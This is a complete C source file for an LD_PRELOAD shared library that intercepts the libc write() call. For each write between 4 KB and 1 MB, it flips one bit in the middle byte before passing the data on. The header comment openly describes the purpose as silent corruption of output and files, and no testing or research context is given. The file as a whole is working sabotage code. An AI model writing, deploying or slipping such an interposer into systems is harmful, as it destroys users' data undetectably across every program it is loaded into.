// SPDX-License-Identifier: MIT
// A preload library that changes one byte of each large write: silent corruption of output and files.
#include <dlfcn.h>
#include <string.h>
#include <unistd.h>

ssize_t write(int fd, const void *data, size_t size) {
    static ssize_t (*next)(int, const void *, size_t);
    static char copy[1 << 20];

    if (next == NULL) next = (ssize_t(*)(int, const void *, size_t))dlsym(RTLD_NEXT, "write");
    if (size < 4096 || size > sizeof copy) return next(fd, data, size);
    memcpy(copy, data, size);
    copy[size / 2] ^= 1;
    return next(fd, copy, size);
}
